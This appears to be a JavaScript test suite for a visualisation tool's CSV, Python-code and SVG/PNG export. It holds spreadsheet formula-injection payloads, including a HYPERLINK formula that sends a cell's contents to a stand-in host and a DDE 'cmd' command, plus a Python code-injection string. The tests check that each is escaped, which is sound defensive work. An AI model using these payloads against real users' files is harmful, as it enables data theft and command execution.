// Files that hold texts of others, tokens and labels: a spreadsheet computes none of them, a picture of
// them is well-formed, a program quotes them, and an export that fails says so.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csv } from '../../web/core/draw/files.js';
import { claimCode } from '../../web/labs/claims/figures/claim-program.js';
import { parse } from '../../web/labs/claims/api/parse.js';
import { layerOf } from '../../web/core/draw/snapshot.js';
import { testBrowser } from '../harness/browser.js';
import { saved as download } from '../harness/figures.js';
import { choose } from '../harness/menu.js';
import { runPython } from '../harness/numpy.js';
import { settled } from '../harness/settled.js';

/** @param {string[]} labels @param {number[]} [values] */
const saved = (labels, values = labels.map(() => -1)) =>
  csv({
    name: 'a',
    tensor: { shape: [labels.length, 1], data: Float32Array.from(values) },
    rowtitle: labels[0],
    columntitle: 'query',
    rowname: (row) => labels[row],
    columnname: () => labels[0],
  }).text();

/** The cells of a line as RFC 4180 has them. @param {string} text */
function cells(text) {
  /** @type {string[][]} */
  const lines = [[]];
  for (const [, quoted, plain = '', end] of text.matchAll(
    /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g,
  )) {
    lines[lines.length - 1].push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === '\r\n') lines.push([]);
  }
  return lines.slice(0, -1);
}

test('a label that a spreadsheet would compute begins with a quote, and all of it is there', async () => {
  const formulas = [
    '=1+1',
    '=HYPERLINK("http://a.example?"&A1,"x")',
    '+1+1',
    '-1+1',
    '-cmd|" /C calc"!A0',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1',
    '-',
    '+-1',
    '-1,5',
  ];
  const lines = cells(await saved(formulas));
  assert.deepEqual(
    lines.slice(1).map(([label]) => label),
    formulas.map((label) => `'${label}`),
  );
  assert.deepEqual(lines[0], ["'=1+1 \\ query", "'=1+1"]);
  // and it is in double quotes, so that no other separator ends it
  for (const label of formulas) {
    assert.ok((await saved([label])).includes(`"'${label.replaceAll('"', '""')}"`), label);
  }
});

test('numbers stay numbers: as values, and as labels', async () => {
  const numbers = ['-1', '+1', '0', '-0.5', '-1e-7', '+.5E+3', '12', '-3.'];
  const values = [-1, 1, 0, -0.5, -1e-7, 500, Infinity, -Infinity];
  const lines = cells(await saved(numbers, values));
  assert.deepEqual(
    lines.slice(1).map(([label]) => label),
    numbers,
  );
  assert.deepEqual(
    lines.slice(1).map(([, value]) => Math.fround(Number(value))),
    values.map(Math.fround),
  );
  const plain = ['bank', 'a=b', '−3', "it's", '2-1', ' x', 'नमस्ते'];
  assert.deepEqual(
    cells(await saved(plain))
      .slice(1)
      .map(([label]) => label),
    plain,
  );
});

test('a text in a program of a claim is that text in Python', () => {
  const texts = [
    `"'\\`,
    'a\nprint(1)',
    '\r\n\t\0\u001b',
    '"""',
    '\\" + __import__("os").name + \\"',
    'xp.array xp.pi',
    '\u2028\u2029\u0085\ufffe\uffff',
    '{x} %s $x',
    'नमस्ते 👍🏽',
  ];
  for (const text of texts) {
    // the parser reads a backslash as JavaScript does, but for \\u
    const source = JSON.stringify(text).replaceAll("'", "\\'");
    const tree = parse(
      source.replace(/\\u([0-9a-f]{4})/g, (_, code) =>
        String.fromCharCode(Number.parseInt(code, 16)),
      ),
    );
    assert.equal(tree.kind, 'text');
    const { value } = /** @type {{ value: string }} */ (tree);
    const program = claimCode('numpy', tree).replace(
      /print\(([^]*)\)\n$/,
      'import json\nprint(json.dumps($1))',
    );
    assert.equal(JSON.parse(runPython(program)), value);
  }
  // half of a pair cannot be printed
  assert.match(claimCode('numpy', parse('"a\ud800b"')), /print\("a\ufffdb"\)/);
  assert.match(claimCode('numpy', parse('007 + 0.5')), /\(7\.0 \+ 0\.5\)/);
});

// ---- in a page ----

const browser = testBrowser();

const hostile = ['\u0000\u0001\u001b', '\ufffe\uffff', '\ud800', '\udc00x', 'a\u0008b', '👍🏽<&]]>'];

/** @param {string} body @param {string} [lang] */
async function open(body, lang = 'en') {
  const opened = await browser.open('export.html', {
    html: `<!doctype html><html lang="${lang}"><title>export</title><script type="module">
      import './core/figures/define.js';
      import './article/lessons.js';</script><main>${body}</main></html>`,
  });
  await opened.page.waitForFunction(() =>
    document.querySelector('#a')?.shadowRoot?.querySelector('.frame.ready'),
  );
  return opened;
}

test('tokens of characters that XML has not: SVG and PNG are saved, with U+FFFD instead', async () => {
  const { page, complaints, close } = await open(
    '<phasor-heatmap id="a"></phasor-heatmap><phasor-attention id="b" view="all"></phasor-attention>',
  );
  const found = await page.evaluate(async (tokens) => {
    const { svg, png } = await import(/** @type {any} */ ('/core/draw/snapshot.js'));
    const size = tokens.length;
    const [map, heads] = /** @type {any[]} */ ([...document.querySelectorAll('#a, #b')]);
    const rows = Array.from({ length: size }, () => Array.from({ length: size }, () => 1 / size));
    Object.assign(map, { tensor: rows, rowlabels: tokens, columnlabels: tokens });
    Object.assign(heads, { weights: [rows], tokens });
    const results = [];
    for (const element of [map, heads]) {
      const root = element.shadowRoot;
      await /** @type {any} */ (window).until(() => root.querySelector('.frame.ready'), element.id);
      await /** @type {any} */ (window).settled();
      // also a text that no figure shortens or filters
      root
        .querySelector('.figure')
        .append(Object.assign(document.createElement('p'), { textContent: tokens.join('') }));
      const text = await svg(root.querySelector('.figure')).text();
      const parsed = new DOMParser().parseFromString(text, 'image/svg+xml');
      const picture = await png(root.querySelector('.figure'));
      results.push({
        error: parsed.querySelector('parsererror')?.textContent ?? '',
        replaced: text.includes('\ufffd'),
        kept: (parsed.documentElement.textContent ?? '').includes('👍🏽<&]]>'),
        bytes: picture.size,
      });
    }
    return results;
  }, hostile);
  for (const { error, replaced, kept, bytes } of found) {
    assert.deepEqual([error, replaced, kept], ['', true, true]);
    assert.ok(bytes > 1000);
  }
  assert.deepEqual(complaints, []);
  await close();
});

test('an export that fails says so where the reader looks, in the reader’s language', async () => {
  for (const [lang, said] of /** @type {const} */ ([
    ['en', /^No PNG was saved: The picture is too large for this browser\.$/],
    ['hi', /^PNG नहीं सहेजी गई: चित्र इस ब्राउज़र/],
  ])) {
    const { page, close } = await open('<phasor-curves id="a" length="5"></phasor-curves>', lang);
    await page.evaluate(() => {
      HTMLCanvasElement.prototype.toBlob = (act) => act(null);
    });
    await choose(page.locator('#a'), 'PNG');
    const message = page.locator('#a .trouble');
    await page.waitForFunction(
      () => document.querySelector('#a')?.shadowRoot?.querySelector('.trouble')?.textContent,
    );
    // and it stays when the figure, higher by the message, is drawn again
    await settled(page);
    assert.match((await message.textContent()) ?? '', said);
    await close();
  }
});

test('a saved CSV of a figure holds its tokens as texts', async () => {
  const { page, close } = await open('<phasor-heatmap id="a"></phasor-heatmap>');
  await page.evaluate(() => {
    const map = /** @type {any} */ (document.querySelector('#a'));
    const tokens = ['=1+1', '-2'];
    Object.assign(map, {
      tensor: [
        [1, -2],
        [3, 4],
      ],
      rowlabels: tokens,
      columnlabels: tokens,
    });
  });
  const { bytes } = await download(page, () => choose(page.locator('#a'), 'Save CSV'));
  assert.equal(bytes.toString(), `row \\ column,"'=1+1",-2\r\n"'=1+1",1,-2\r\n-2,3,4\r\n`);
  await close();
});

test('upright labels of columns are saved whole, and that of the cursor after its neighbours', async () => {
  const { page, close } = await open('<phasor-heatmap id="a" row="2" column="3"></phasor-heatmap>');
  await page.evaluate(() => {
    const names = Array.from({ length: 40 }, (_, k) => `a name ${k}`);
    const tensor = Array.from({ length: 6 }, () => names.map((_, k) => k));
    const map = /** @type {any} */ (document.querySelector('#a'));
    Object.assign(map, { tensor, columnlabels: names });
  });
  await settled(page);
  const { labels, texts } = await page.evaluate(async () => {
    const { drawing } = await import(/** @type {any} */ ('/core/draw/snapshot.js'));
    const root = document.querySelector('#a')?.shadowRoot;
    const figure = /** @type {HTMLElement} */ (root?.querySelector('.figure'));
    const origin = figure.getBoundingClientRect();
    return {
      labels: Array.from(root?.querySelectorAll('.upright > .label') ?? [], (label) => {
        const { left, top, width, height } = label.getBoundingClientRect();
        const [x, y] = [left - origin.left + width / 2, top - origin.top + height / 2];
        return { words: label.textContent, x, y, isCurrent: label.matches('.current') };
      }),
      texts: Array.from(drawing(figure).querySelectorAll('text'), (text) => ({
        words: text.textContent,
        x: Number(text.getAttribute('x')),
        y: Number(text.getAttribute('y')),
        transform: text.getAttribute('transform') ?? '',
      })),
    };
  });
  assert.ok(labels.length > 20, `${labels.length} labels`);
  const order = labels.map(({ words, x, y }) => {
    const at = texts.findIndex((text) => text.words === words);
    assert.ok(at >= 0, `${words} is not whole`);
    const off = Math.hypot(texts[at].x - x, texts[at].y - y);
    assert.ok(off < 3, `${words} is ${off} px away`);
    assert.match(texts[at].transform, /^rotate\(-90 /);
    return at;
  });
  const current = labels.findIndex(({ isCurrent }) => isCurrent);
  assert.equal(labels[current].words, 'a name 3');
  assert.equal(order[current], Math.max(...order));
  await close();
});

test('of more labels than are measured every one is cut where it is too wide', async () => {
  const { page, close } = await open('<phasor-heatmap id="a" rows="0 6"></phasor-heatmap>');
  // of 801 rows every third is measured
  await page.evaluate(() => {
    const rowlabels = Array.from({ length: 801 }, (_, k) =>
      k === 1 ? 'wide '.repeat(40) : `${k}`,
    );
    const map = /** @type {any} */ (document.querySelector('#a'));
    Object.assign(map, { tensor: rowlabels.map((_, k) => [k, 1, 2, 3]), rowlabels });
  });
  await settled(page);
  const label = page.locator('#a .labels.rows > .label', { hasText: 'wide' });
  const { width, clips } = await label.evaluate((box) => ({
    width: box.clientWidth,
    clips: box.scrollWidth > box.clientWidth && getComputedStyle(box).overflow === 'hidden',
  }));
  assert.ok(clips && width <= 112, `${width} pixels`);
  await close();
});

test('a layer of one colour is known however a browser writes it', () => {
  const size = { backgroundSize: '40% 3px' };
  const red = 'rgb(200, 30, 30)';
  for (const stops of [
    `${red} 0px, ${red} 0px`,
    `${red} 0, ${red} 0`,
    `${red} 0px`,
    `${red} 0% 0%`,
    `to bottom, ${red} 0px, ${red} 0px`,
    `${red}, ${red}`,
  ]) {
    const layer = layerOf({ ...size, backgroundImage: `linear-gradient(${stops})` });
    assert.deepEqual(layer, { color: red, share: 0.4, high: 3 }, stops);
  }
  const backgroundImage = `linear-gradient(${red} 0px, ${red} 0px)`;
  for (const other of [
    { ...size, backgroundImage: 'none' },
    { ...size, backgroundImage: `linear-gradient(${red}, rgb(0, 0, 0))` },
    { ...size, backgroundImage: `${backgroundImage}, linear-gradient(rgb(0, 0, 0), ${red})` },
    { backgroundImage, backgroundSize: '0% 3px' },
    { backgroundImage, backgroundSize: 'auto' },
  ]) {
    assert.equal(layerOf(other), null, `${other.backgroundImage} ${other.backgroundSize}`);
  }
});

test('a saved picture has map, lines, labels, legend and caption, and nothing that operates the figure', async () => {
  const { page, close } = await browser.open('picture.html', {
    html: `<!doctype html><html lang="en"><meta charset="utf-8" /><title>picture</title>
      <script type="module" src="core/figures/define.js"></script>
      <phasor-attention id="a" controls overview query="1" key="0" tokens='["a", "b", "c"]'></phasor-attention>
      <phasor-heatmap id="b" controls row="3" column="4"></phasor-heatmap>`,
  });
  await page.evaluate(() => {
    const map = [
      [1, 0, 0],
      [0.6, 0.4, 0],
      [0.2, 0.3, 0.5],
    ];
    const weights = [
      [map, map],
      [map, map],
    ];
    Object.assign(/** @type {any} */ (document.querySelector('#a')), { weights });
  });
  await page.locator('#a .overview canvas').first().waitFor();
  await page.locator('#b .frame.ready').waitFor();
  await settled(page);
  /** @param {string} id */
  const pictureOf = (id) =>
    page.evaluate(async (name) => {
      const { svg } = await import(/** @type {any} */ ('/core/draw/snapshot.js'));
      const element = /** @type {any} */ (document.querySelector(name));
      const state = () =>
        Array.from(element.figure.querySelectorAll('*'), (each) => [
          each.getAttribute('class'),
          getComputedStyle(each).display,
        ]).join();
      const before = state();
      const text = await (await svg(element.figure)).text();
      const { documentElement: picture } = new DOMParser().parseFromString(text, 'image/svg+xml');
      const claim = element.shadowRoot.querySelector('.claim').textContent;
      const shapes = Array.from(picture.querySelectorAll('rect'), (each) => [
        each.getAttribute('fill'),
        each.getAttribute('stroke-width'),
      ]);
      return {
        words: Array.from(picture.querySelectorAll('text'), (each) => each.textContent),
        claim: claim.trim(),
        images: picture.querySelectorAll('image').length,
        paths: picture.querySelectorAll('path').length,
        outlines: shapes.filter(([fill, width]) => fill === 'none' && width === '2').length,
        isSame: state() === before,
      };
    }, id);
  const weights = await pictureOf('#a');
  const said = weights.words.join(' ');
  for (const word of [
    'query',
    'key',
    'a 0',
    'b 1',
    'c 2',
    'sum',
    'weight',
    '0',
    '1',
    '60\u00a0%',
  ]) {
    assert.ok(weights.words.includes(word), `${word} in ${said}`);
  }
  assert.ok(said.replace(/\s+/g, ' ').includes(weights.claim.replace(/\s+/g, ' ')), said);
  // the map, its legend, two heads, and all of both layers
  assert.equal(weights.images, 5);
  assert.ok(weights.paths > 3);
  assert.equal(weights.outlines, 0, 'no cell of the cursor');
  assert.doesNotMatch(said, /Layer|All layers|View|Copy|Add row|Query “b”|\+|weight =/);
  assert.ok(weights.isSame, 'the figure is as it was');
  const table = await pictureOf('#b');
  const shown = table.words.join(' ');
  assert.match(shown, /position dimension .*−1 0 1/);
  assert.ok(shown.includes(table.claim), shown);
  assert.equal(table.outlines, 0);
  assert.doesNotMatch(shown, /Encoding|dimension 4|0\.81|Copy/);
  assert.ok(table.isSame);
  await close();
});
